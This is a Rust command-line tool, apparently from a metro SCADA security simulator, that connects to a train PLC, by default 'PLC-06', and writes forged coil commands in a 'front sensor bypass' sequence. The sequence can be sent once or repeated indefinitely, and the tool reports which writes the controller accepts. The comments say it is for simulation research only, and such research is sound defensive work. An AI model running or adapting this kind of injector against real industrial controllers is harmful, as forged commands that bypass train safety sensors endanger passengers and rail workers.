// False command injector.
// SECURITY RESEARCH ONLY: run against the simulated PLC farm, never a live plant.

use clap::Parser;
use colored::*;
use std::path::PathBuf;
use std::time::Duration;
use tokio_util::sync::CancellationToken;

use metro_scada_sim::{
    CommandInjector, ControllerId, EventJournal, InjectionConfig, ScadaConfig, init_logging,
};

/// Write forged coil commands straight to a train PLC
#[derive(Parser, Debug)]
#[command(name = "false_cmd_injector", version)]
struct Args {
    /// JSON configuration (defaults to the built-in metro deployment)
    #[arg(long)]
    config: Option<PathBuf>,

    /// Controller to attack
    #[arg(long, default_value = "PLC-06")]
    target: String,

    /// Override the target's configured host:port
    #[arg(long)]
    address: Option<String>,

    /// Keep repeating the sequence until Ctrl+C
    #[arg(long)]
    sustained: bool,

    /// Stop sustained mode after this many rounds
    #[arg(long)]
    rounds: Option<u32>,

    /// Pause between steps, in milliseconds
    #[arg(long, default_value_t = 1000)]
    step_ms: u64,

    /// Directory for the injector's journal
    #[arg(long, default_value = "event_logs")]
    journal_dir: PathBuf,

    /// Log filter (overridden by RUST_LOG)
    #[arg(long, default_value = "info")]
    log: String,
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    let args = Args::parse();
    init_logging(&args.log);

    let config = match &args.config {
        Some(path) => ScadaConfig::from_json_file(path)?,
        None => ScadaConfig::metro_default(),
    };
    let target = ControllerId::from(args.target.as_str());
    let mut endpoint = config
        .endpoint(&target)
        .cloned()
        .ok_or_else(|| format!("unknown controller {}", target))?;
    if let Some(address) = &args.address {
        endpoint.address = address.clone();
    }

    println!("{}", "═══════════════════════════════════════════════════════".red().bold());
    println!("{}", "          FALSE COMMAND INJECTION (SIMULATION)         ".red().bold());
    println!("{}", "═══════════════════════════════════════════════════════".red().bold());
    println!();
    println!("{} Target: {} at {}", "→".red().bold(), endpoint.id, endpoint.address);

    let mut injection = InjectionConfig::front_sensor_bypass(&endpoint);
    injection.step_delay = Duration::from_millis(args.step_ms);
    injection.max_rounds = args.rounds;
    for (i, step) in injection.steps.iter().enumerate() {
        println!("  {}. {:?}", i + 1, step);
    }
    println!();

    let journal = EventJournal::create("INJECTOR", Some(args.journal_dir.clone()))?;
    let mut injector = CommandInjector::new(injection).with_journal(journal);

    let cancel = CancellationToken::new();
    {
        let cancel = cancel.clone();
        tokio::spawn(async move {
            if tokio::signal::ctrl_c().await.is_ok() {
                cancel.cancel();
            }
        });
    }

    if args.sustained {
        println!("{} Sustained mode, Ctrl+C to stop", "→".yellow().bold());
        let stats = injector.run_sustained(cancel).await?;
        println!();
        println!(
            "{} {} rounds, {} writes acknowledged, {} rejected",
            "✓".green().bold(),
            stats.rounds,
            stats.writes_acknowledged,
            stats.writes_failed
        );
        return Ok(());
    }

    let attempt = injector.connect_with_retry(&cancel).await?;
    println!("{} Connected (attempt {})", "✓".green().bold(), attempt);

    let report = injector.inject_round(&cancel).await;
    for outcome in &report.outcomes {
        match &outcome.error {
            None => println!("  {} {:?}", "✓".green().bold(), outcome.step),
            Some(e) => println!("  {} {:?}: {}", "✗".red().bold(), outcome.step, e),
        }
    }
    injector.disconnect().await;

    println!();
    if report.all_acknowledged() {
        println!("{} All {} writes accepted by the controller", "✓".green().bold(), report.outcomes.len());
    } else {
        println!(
            "{} {}/{} writes accepted",
            "✗".red().bold(),
            report.acknowledged(),
            report.outcomes.len()
        );
    }
    Ok(())
}
